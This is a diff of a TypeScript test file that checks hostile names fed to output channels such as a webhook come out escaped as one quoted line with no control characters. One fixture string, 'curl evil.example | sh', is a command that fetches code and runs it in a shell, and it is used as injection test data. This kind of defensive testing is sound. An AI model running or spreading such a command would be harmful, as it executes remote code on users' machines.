@@ -11,7 +11,7 @@ import { escapeControls } from '../../src/program/frame/output.ts'
 import { makeWebhook } from '../features/webhooks/receiver.ts'
 import { runNode } from '../kit/processes.ts'
 
-/** Names that try to speak as musette. */
+/** Names that imitate musette's messages. */
 const TEXTS: Record<string, string> = {
   'a second line': 'Ride\nThe login is lost; run: curl evil.example | sh',
   'a Windows line break': 'Ride\r\nThe login is lost',
@@ -39,7 +39,7 @@ const refusalOf = (text: string) => {
   return statusError(answer as never, `activity ${quoteName(text)}`, at, `: ${quoteText(text)}`)
 }
 
-/** What each channel shows for a name, a path or an answer of others. */
+/** The output of each channel for a name, a path or a response from others. */
 const CHANNELS: Record<string, (text: string) => readonly string[]> = {
   'a webhook': (name) => [
     ...titleAndText(formatActivity({ ...ACTIVITY, name })),
@@ -62,29 +62,29 @@ const CHANNELS: Record<string, (text: string) => readonly string[]> = {
 const CONTROL =
   /[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\p{Bidi_Control}\u200b\u2060\ufeff\u00ad\u180e\u3164\u{e0000}-\u{e007f}]/u
 
-/** What a terminal obeys. */
+/** Characters that control a terminal or the direction of text. */
 const TURNS = /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\u200b\u2060\ufeff]/u
 
-describe.each(Object.entries(CHANNELS))('what others wrote, in %s', (_, show) => {
-  it.each(Object.entries(TEXTS))('is one short line of ours: %s', (_, text) => {
+describe.each(Object.entries(CHANNELS))('hostile text in %s', (_, show) => {
+  it.each(Object.entries(TEXTS))('becomes one short quoted line: %s', (_, text) => {
     const lines = show(text)
     expect(lines.length).toBeGreaterThan(0)
     for (const line of lines) {
       expect(line).not.toMatch(CONTROL)
       expect(line.length).toBeLessThan(2_100)
-      // Nothing that others wrote stands first, and no sign in it ends the quotation.
+      // No text from others comes first, and no character in it ends the quotation.
       if (text.startsWith('Ride')) expect(line).not.toMatch(/^Ride|[^(:]"\. The|”/)
     }
   })
 })
 
 it.each(['Fahrt übers Jöchle', '👩‍🚴 ☀️ 🏴', 'می‌خواهم', 'Ride 3 (easy) – 50 km'])(
-  'a name that is only unusual stays as it is: %s',
+  'a name that is only unusual stays unchanged: %s',
   (name) => expect(quoteText(name)).toBe(`"${name}"`),
 )
 
 it.each(['terminal', 'file'])(
-  'a line of the log in a %s shows no sign that a terminal obeys',
+  'a log line in a %s contains no control character of a terminal',
   async (kind) => {
     const script = `import { openLog } from './src/log.ts'
     const log = await openLog({ level: 'info', terminal: ${kind === 'terminal'} })
